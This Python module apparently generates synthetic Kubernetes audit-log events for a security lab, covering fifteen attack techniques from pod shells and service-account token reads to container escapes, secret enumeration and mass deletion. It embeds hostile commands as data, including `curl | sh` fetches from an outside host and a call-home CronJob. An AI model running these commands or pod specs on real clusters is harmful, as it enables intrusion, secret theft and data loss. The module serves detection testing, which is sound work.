"""Kubernetes audit: pods entered, pods that break out, data taken and destroyed."""

from __future__ import annotations

from typing import Final
from urllib.parse import quote

from daemon.demo.traffic.record import Body
from daemon.lab.sources.kubernetes_audit import account, call, person
from daemon.lab.stage import Stage, Technique
from daemon.lab.world import Workload


def _exec(stage: Stage, workload: Workload, *command: str, verb: str = "create") -> None:
    words = [f"command={quote(word, safe='')}" for word in command]
    query = "&".join([*words, f"container={workload.name}", "stdin=true", "stdout=true", "tty=true"])
    who, pod = person(stage, stage.person()), stage.pod(workload).name
    call(stage, who, verb, "v1/pods", workload.namespace, pod, sub="exec", query=query, upgrade=True)


def shell_in_data_pod(stage: Stage) -> None:
    """Open a shell in the pod of the database."""
    _exec(
        stage,
        stage.world.store,
        stage.rng.choice(("/bin/bash", "/bin/sh", "sh")),
        verb=stage.rng.choice(("get", "create")),
    )


def token_read_in_pod(stage: Stage) -> None:
    """Read the token of a pod's service account."""
    _exec(stage, stage.workload(), "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token")


def tool_fetched_in_pod(stage: Stage) -> None:
    """Fetch a program into a pod and run it."""
    _exec(
        stage,
        stage.workload(),
        "sh",
        "-c",
        f"curl -fsSL http://{stage.names.outside()}/{stage.names.word()} | sh",
    )


def _made(stage: Stage, kind: str, resource: str, spec: Body, namespace: str = "") -> None:
    name, place = stage.names.thing(), namespace or stage.workload().namespace
    version = resource.rpartition("/")[0]
    body = {"kind": kind, "apiVersion": version, "metadata": {"name": name, "namespace": place}, "spec": spec}
    call(stage, person(stage, stage.person()), "create", resource, place, name, body)


def _container(stage: Stage, **more: object) -> Body:
    return {"name": stage.names.word(), "image": f"docker.io/library/{stage.names.word()}:latest", **more}


def privileged_pod(stage: Stage) -> None:
    """Start a privileged pod."""
    _made(stage, "Pod", "v1/pods", {"containers": [_container(stage, securityContext={"privileged": True})]})


def host_namespaces(stage: Stage) -> None:
    """Start a pod that shares the processes and the network of its machine."""
    _made(stage, "Pod", "v1/pods", {"hostPID": True, "hostNetwork": True, "containers": [_container(stage)]})


def _on_host(stage: Stage, path: str) -> None:
    mount = [{"name": "host", "mountPath": "/host"}]
    volumes = [{"name": "host", "hostPath": {"path": path}}]
    spec = {"containers": [_container(stage, volumeMounts=mount)], "volumes": volumes}
    _made(stage, "Pod", "v1/pods", spec)


def host_root(stage: Stage) -> None:
    """Mount the whole disk of the machine."""
    _on_host(stage, "/")


def control_plane_keys(stage: Stage) -> None:
    """Mount the folder of the control plane's keys."""
    _on_host(stage, stage.rng.choice(("/etc/kubernetes/pki", "/etc/kubernetes/manifests", "/var/lib/etcd")))


def runtime_socket(stage: Stage) -> None:
    """Mount the socket of the container runtime."""
    _on_host(stage, stage.rng.choice(("/run/containerd/containerd.sock", "/var/run/docker.sock")))


def debug_container(stage: Stage) -> None:
    """Put a container beside the database."""
    store = stage.world.store
    patch = {"spec": {"ephemeralContainers": [_container(stage, stdin=True, tty=True)]}}
    who, pod = person(stage, stage.person()), stage.pod(store).name
    call(stage, who, "patch", "v1/pods", store.namespace, pod, patch, sub="ephemeralcontainers")


def calls_home(stage: Stage) -> None:
    """Have a job call home every few minutes."""
    command = ["sh", "-c", f"curl -s http://{stage.names.outside()}/{stage.names.word()}.sh | bash"]
    pod = {"spec": {"containers": [_container(stage, command=command)], "restartPolicy": "Never"}}
    spec = {"schedule": "*/5 * * * *", "jobTemplate": {"spec": {"template": pod}}}
    _made(stage, "CronJob", "batch/v1/cronjobs", spec)


def secrets_of_all(stage: Stage) -> None:
    """List the secrets of the whole cluster with the token of a pod."""
    workload = stage.workload()
    pod = stage.pod(workload)
    call(stage, account(stage, workload, pod), "list", "v1/secrets", query="limit=500", address=pod.address)


def secrets_in_a_row(stage: Stage) -> None:
    """Read secret after secret."""
    who, namespace = person(stage, stage.person()), stage.world.data_namespace
    for _ in range(stage.rng.randint(15, 25)):
        call(stage, who, "get", "v1/secrets", namespace, stage.names.thing())


def mass_deletion(stage: Stage) -> None:
    """Delete workloads, volumes and configuration of the data's namespace."""
    who, namespace = person(stage, stage.person()), stage.world.data_namespace
    for _ in range(stage.rng.randint(4, 6)):
        for resource in ("apps/v1/deployments", "v1/persistentvolumeclaims", "v1/configmaps"):
            call(stage, who, "delete", resource, namespace, stage.names.thing())


def namespace_deleted(stage: Stage) -> None:
    """Delete a whole namespace."""
    namespace = stage.world.data_namespace
    call(stage, person(stage, stage.person()), "delete", "v1/namespaces", namespace, namespace)


def secrets_refused(stage: Stage) -> None:
    """Try to read the secrets of namespace after namespace, and be refused."""
    workload = stage.workload()
    pod = stage.pod(workload)
    who = account(stage, workload, pod)
    for _ in range(stage.rng.randint(12, 18)):
        namespace = stage.names.thing()
        call(stage, who, "list", "v1/secrets", namespace, code=403, address=pod.address)


TECHNIQUES: Final = (
    Technique("k8s-shell-in-data-pod", "Shell in the pod of a database", shell_in_data_pod, ("T1609",)),
    Technique(
        "k8s-token-read-in-pod", "Service account token read by exec", token_read_in_pod, ("T1552.007",)
    ),
    Technique("k8s-tool-fetched-in-pod", "Program fetched into a pod", tool_fetched_in_pod, ("T1105",)),
    Technique("k8s-privileged-pod", "Privileged pod", privileged_pod, ("T1611",)),
    Technique("k8s-host-namespaces", "Pod in the machine's namespaces", host_namespaces, ("T1611",)),
    Technique("k8s-host-root", "Disk of the machine mounted", host_root, ("T1611",)),
    Technique(
        "k8s-control-plane-keys",
        "Keys of the control plane mounted",
        control_plane_keys,
        ("T1552.004",),
        "critical",
    ),
    Technique("k8s-runtime-socket", "Socket of the container runtime mounted", runtime_socket, ("T1611",)),
    Technique("k8s-debug-container", "Container put beside a database", debug_container, ("T1610",)),
    Technique("k8s-calls-home", "Job that calls home", calls_home, ("T1053.007",)),
    Technique("k8s-secrets-of-all", "Secrets of the whole cluster listed", secrets_of_all, ("T1552.007",)),
    Technique("k8s-secrets-in-a-row", "Secrets read in a row", secrets_in_a_row, ("T1552.007",)),
    Technique("k8s-mass-deletion", "Workloads and volumes deleted", mass_deletion, ("T1485",), "critical"),
    Technique("k8s-namespace-deleted", "Namespace deleted", namespace_deleted, ("T1485",)),
    Technique(
        "k8s-secrets-refused", "Secrets tried across namespaces", secrets_refused, ("T1552.007",), "medium"
    ),
)
